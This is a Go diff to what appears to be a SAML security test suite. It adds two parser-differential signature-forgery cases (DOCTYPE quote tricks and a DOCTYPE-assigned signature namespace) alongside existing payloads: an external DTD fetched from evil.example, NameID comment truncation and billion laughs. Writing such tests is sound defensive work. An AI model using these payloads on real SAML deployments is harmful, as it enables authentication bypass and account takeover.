@@ -23,6 +23,8 @@ func markups() []Attack {
 		}},
 		{"parameter-entity", "a parameter entity that is fetched", "", prolog(`<!DOCTYPE r [<!ENTITY % f SYSTEM "https://evil.example/x.dtd"> %f;]>`)},
 		{"attribute-default", "a DOCTYPE that gives every Response an attribute", "", prolog(`<!DOCTYPE r [<!ATTLIST r ID ID #IMPLIED>]>`)},
+		{"parser-differential-quotes", "a DOCTYPE whose quotes end elsewhere for another parser, and hide a second signature (ruby-saml, 2025)", "", differentQuotes},
+		{"parser-differential-namespace", "a second signature, in the namespace of signatures only where a DOCTYPE's default attributes count (ruby-saml, 2025)", "", differentNamespace},
 		{"undeclared-entity", "an entity that HTML knows and XML does not", "", after(nameID, ">user&nbsp;@acme.test</saml:NameID>")},
 		{"processing-instruction", "a processing instruction in the address", "", after(nameID, ">"+Victim+"<?x?>.evil.example</saml:NameID>")},
 		{"comment-in-nameid", "a comment that cuts the address short (2018)", "", truncated("<!---->")},
@@ -92,6 +94,20 @@ func truncated(markup string) func(Scene) string {
 		r.Assertion.NameID.Value = Victim + ".evil.example"
 		return replace(r.String(), Victim+".evil.example", Victim+markup+".evil.example")
 	}
+}
+
+// differentQuotes: a parser that takes the quote in the comment for one of the
+// declaration's sees the forged signature, another the good one.
+func differentQuotes(s Scene) string {
+	return `<!DOCTYPE r [<!ENTITY q "'"><!NOTATION n PUBLIC "<!-- ' -->" "]><!--">]>` +
+		replace(s.onlyAssertion().String(), "<saml:Subject>", `<!-- ' --><ds:Signature xmlns:ds="`+nsSignature+`"/><saml:Subject>`)
+}
+
+// differentNamespace: the element Signature is in no namespace, unless the
+// DOCTYPE gives it one.
+func differentNamespace(s Scene) string {
+	return `<!DOCTYPE r [<!ATTLIST Signature xmlns CDATA #FIXED "` + nsSignature + `">]>` +
+		replace(s.onlyAssertion().String(), "<saml:Subject>", `<Signature/><saml:Subject>`)
 }
 
 func billionLaughs(s Scene) string {
